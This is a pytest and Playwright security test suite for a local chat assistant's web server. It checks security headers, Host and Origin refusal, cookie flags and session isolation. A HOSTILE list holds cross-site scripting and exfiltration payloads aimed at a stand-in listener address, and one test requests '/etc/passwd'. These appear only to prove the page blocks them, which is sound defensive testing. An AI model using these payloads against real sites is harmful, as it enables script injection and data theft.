"""What the server sends and refuses, and what a hostile message can reach: nothing."""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.request

import pytest
from playwright.sync_api import Browser, Error, expect

from assistant.conversations import Turn, open_store
from assistant.settings import Settings
from tests.web.visit import Server, Visitor, watch

POLICY = {
    "default-src": "'self'", "script-src": "'self' 'unsafe-inline'", "style-src": "'self' 'unsafe-inline'",
    "img-src": "'self' data: blob:", "font-src": "'self' data:", "media-src": "'self' blob:",
    "connect-src": "'self'", "frame-src": "'none'", "object-src": "'none'", "base-uri": "'self'",
    "form-action": "'self'", "frame-ancestors": "'none'",
}  # fmt: skip
HOSTILE = (
    "![score](LISTENER/a.png?q=USMLE260)",
    "<img src=LISTENER/b.png>",
    "<img src=x onerror=\"fetch('LISTENER/c')\">",
    "<audio src=LISTENER/d.mp3 autoplay></audio>",
    "<video src=LISTENER/e.mp4 poster=LISTENER/f.png autoplay></video>",
    "<div style=\"background:url(LISTENER/g.png);height:40px\">letters</div>",
    "<style>body{background:url(LISTENER/h.png)}</style>",
    "<link rel=stylesheet href=LISTENER/i.css>",
    "<iframe src=LISTENER/j></iframe>",
    "<iframe srcdoc=\"<img src='LISTENER/k.png'>\"></iframe>",
    "<object data=LISTENER/l></object>",
    "<embed src=LISTENER/m>",
    "<meta http-equiv=refresh content=\"0;url=LISTENER/n\">",
    "<script>fetch('LISTENER/o')</script>",
    "<svg><image href=LISTENER/p.png /></svg>",
    "<base href=LISTENER/><img src=q.png>",
    "[click](javascript:fetch('LISTENER/r'))",
    "[ref]: LISTENER/s.png\n\n![x][ref]",
    "    indented\n\n```html\n<img src=LISTENER/t.png>\n```",
    "{{7*7}} {% import os %} ${LISTENER}/u",
    "<form action=LISTENER/v><button>Send</button></form>",
    "$$\\href{LISTENER/w}{x}$$",
    "www.example.com someone@example.com LISTENER/x ~~y~~ :smile: &lt;b&gt; <details open>z</details>",
)


def policy(header: str) -> dict[str, str]:
    return dict(part.strip().split(" ", 1) for part in header.split(";") if part.strip())


@pytest.mark.parametrize(
    "path", ["", "config", "theme.css", "assets/none.js", "gradio_api/info", "gradio_api/file=/etc/passwd", "none/at/all",
             "favicon.ico", "openapi.json"],
)  # fmt: skip
def test_every_response_carries_the_headers(server: Server, path: str) -> None:
    _, headers, _ = server.get(path)
    assert policy(headers["content-security-policy"]) == POLICY
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-frame-options"] == "DENY"


def test_a_refusal_carries_them_too(server: Server) -> None:
    status, headers, _ = server.get(Host="evil.example")
    assert status == 400
    assert policy(headers["content-security-policy"]) == POLICY


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "LOCALHOST:1", "[::1]:7860"])
def test_this_machine_may_be_called_by_its_names(server: Server, host: str) -> None:
    assert server.get(Host=host)[0] == 200


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "evil.example:80", "[::2]", "", "[", "a@b"])
def test_other_names_are_refused(server: Server, host: str) -> None:
    assert server.get(Host=host)[0] == 400


def test_a_foreign_origin_is_refused(server: Server) -> None:
    assert server.get(Origin="http://evil.example")[0] == 403
    assert server.get(Origin="null")[0] == 403
    assert server.get(Origin=server.url.rstrip("/"))[0] == 200


def test_no_event_is_a_public_endpoint_and_nothing_is_monitored(server: Server) -> None:
    assert json.loads(server.get("gradio_api/info")[2])["named_endpoints"] == {}
    config = json.loads(server.get("config")[2])
    assert {d["api_visibility"] for d in config["dependencies"]} == {"private"}
    assert server.get("monitoring/summary")[0] in {403, 404}
    assert server.get("docs")[0] == 404
    assert server.get("openapi.json")[0] == 404


def test_a_body_too_large_is_refused(server: Server) -> None:
    request = urllib.request.Request(server.url + "gradio_api/queue/join", data=b"x", method="POST")
    request.add_header("Content-Length", "5000001")
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=30)
    assert refused.value.code == 413


def test_hostile_messages_reach_nobody_and_are_shown_as_typed(
    visitor: Visitor, server: Server, listener: tuple[str, list[str]]
) -> None:
    address, seen = listener
    for message in HOSTILE:
        text = message.replace("LISTENER", address)
        visitor.ask(text)
        shown = visitor.asked.last.inner_text()
        assert " ".join(shown.split()) == " ".join(text.split())
    visitor.page.reload()
    expect(visitor.asked).to_have_count(len(HOSTILE))
    visitor.page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestIdleCallback(done)))")
    assert seen == []
    assert visitor.hosts == {f"127.0.0.1:{server.port}"}
    assert visitor.page.url == server.url
    active = "img,audio,video,iframe,object,embed,a,form,style,script,meta,link,svg,details,table,pre"
    assert visitor.page.locator(f"#vouch-log [data-testid=user] :is({active})").count() == 0


def test_hostile_answers_and_sources_reach_nobody(
    visitor: Visitor, server: Server, listener: tuple[str, list[str]]
) -> None:
    """A model could be made to say anything: put it into the server's own record, as an answer with its sources."""
    address, seen = listener
    visitor.ask("how many letters for a zoroastrian applicant?")
    texts = [message.replace("LISTENER", address) for message in HOSTILE]
    store = open_store(Settings(home=server.home))
    try:
        (conversation,) = [
            item for file in (server.home / "browsers").glob("*.json") for item in json.loads(file.read_text())
            if any("zoroastrian" in turn.text for turn in store.history(item))
        ]  # fmt: skip
        for text in texts:
            cited = {"n": 1, "facts": [text], "layer": "yours", "title": text, "source": text, "season": text, "quote": text}
            store.append(conversation, Turn("user", "and now?"))
            said = f"Look here.\n\n{text}"  # some of the texts show nothing, and so could not be chosen
            store.append(conversation, Turn("assistant", said, {"status": "answered", "citations": [cited]}))
    finally:
        store.close()
    visitor.page.reload()
    expect(visitor.answers).to_have_count(len(HOSTILE) + 1)
    for place, text in enumerate(texts):
        visitor.answers.nth(place + 1).get_by_text("Look here.").click()
        expect(visitor.passage.locator("blockquote")).to_have_text(" ".join(text.split()))
        shown = visitor.passage.locator("blockquote").inner_text()
        assert " ".join(shown.split()) == " ".join(text.split())
    visitor.page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestIdleCallback(done)))")
    assert seen == []
    assert visitor.page.url == server.url
    assert visitor.hosts == {f"127.0.0.1:{server.port}"}  # not even tried
    active = ":is(img,audio,video,iframe,object,embed,form,style,script,meta,base,link,image,details,[onerror],[style*=url])"
    for part in ("#vouch-log [data-testid=bot] ", "#vouch-passage ", "#vouch-chips "):
        assert visitor.page.locator(part + active).count() == 0
    assert visitor.page.locator("#vouch-log a[href^='javascript' i]").count() == 0
    assert visitor.passage.locator("a").count() == 0


def test_a_link_of_an_answer_shows_where_it_leads(visitor: Visitor) -> None:
    visitor.ask("how many letters do i need?")
    shown = visitor.page.evaluate(
        """() => { const link = document.createElement('a'); link.href = 'http://x.example/?q=score';
             document.querySelector('#vouch-log .bot .prose').append(link);
             return getComputedStyle(link, '::after').content; }"""
    )
    assert "http://x.example/?q=score" in shown


def test_a_hostile_title_stays_text_in_the_list(visitor: Visitor, listener: tuple[str, list[str]]) -> None:
    address, seen = listener
    visitor.ask(f"<img src={address}/t.png> how many letters?")
    visitor.page.get_by_role("combobox").click()
    expect(visitor.page.get_by_role("option")).to_contain_text("<img src=")
    visitor.page.get_by_role("button", name="New conversation").click()
    expect(visitor.asked).to_have_count(0)
    assert seen == []


def test_the_policy_holds_where_the_sanitiser_would_not(visitor: Visitor, listener: tuple[str, list[str]]) -> None:
    """Put the elements into the page by hand, as a hole in the sanitiser would."""
    address, seen = listener
    visitor.page.evaluate(
        """address => { const box = document.createElement('div'); document.body.append(box);
             window.refused = new Set();
             document.addEventListener('securitypolicyviolation', event => window.refused.add(event.blockedURI));
             box.innerHTML = `<img src="${address}/1"><audio src="${address}/2" preload=auto></audio>
               <video src="${address}/3" preload=auto></video><iframe src="${address}/4"></iframe>
               <div style="background:url(${address}/5)">x</div><link rel=stylesheet href="${address}/6">`; }""",
        address,
    )
    with pytest.raises(Error):
        visitor.page.evaluate("address => fetch(address + '/7')", address)
    expected = {f"{address}/{number}" for number in (1, 2, 3, 5, 6, 7)} | {address}  # a frame is named by its origin
    visitor.page.evaluate(
        """count => new Promise(done => { const look = () =>
             window.refused.size >= count ? done() : requestAnimationFrame(look); look(); })""",
        len(expected),
    )
    assert set(visitor.page.evaluate("[...window.refused]")) == expected
    assert seen == []


def test_the_page_stores_no_words_of_the_person(visitor: Visitor) -> None:
    visitor.ask("how many letters for a marmaduke applicant?")
    stored: str = visitor.page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
    assert "marmaduke" not in stored
    assert [list(one) for one in json.loads(stored)[:2]] == [[], ["vouch"]]


def test_the_browsers_id_is_out_of_reach_of_scripts_and_other_sites(visitor: Visitor) -> None:
    (cookie,) = visitor.page.context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    assert visitor.page.evaluate("document.cookie") == ""


def test_another_browsers_conversation_stays_closed_even_by_its_id(
    chromium: Browser, visitor: Visitor, server: Server
) -> None:
    visitor.ask("how many letters for a marmaduke applicant?")
    kept = visitor.page.evaluate("sessionStorage.getItem('vouch')")
    made = chromium.new_context()
    stranger = watch(made.new_page()).open(server.url)
    stranger.page.evaluate("kept => sessionStorage.setItem('vouch', kept)", kept)
    stranger.page.reload()
    expect(stranger.box).to_be_enabled()
    expect(stranger.page.get_by_role("button", name="Should I waive")).to_be_visible()
    stranger.ask("when should i ask for a letter?")
    expect(stranger.asked).to_have_count(1)
    visitor.page.reload()
    expect(visitor.asked).to_have_text(["how many letters for a marmaduke applicant?"])
    made.close()


def test_a_forged_history_is_not_believed(chromium: Browser, server: Server) -> None:
    """No event takes the log or a list of what is a person's own as an input: there is nothing for a browser to forge."""
    config = json.loads(server.get("config")[2])
    own = {"vouch-picker", "vouch-letters"}
    chatbots = {
        c["id"] for c in config["components"]
        if c["type"] in {"chatbot", "markdown"} or c["props"].get("elem_id") in own
    }  # fmt: skip
    assert chatbots
    assert all(not chatbots & set(event["inputs"]) for event in config["dependencies"])
    made = chromium.new_context()
    person = watch(made.new_page()).open(server.url)
    person.ask("how many letters do i need?")
    assert re.search(r"\[1\]", person.answers.last.inner_text())
    made.close()
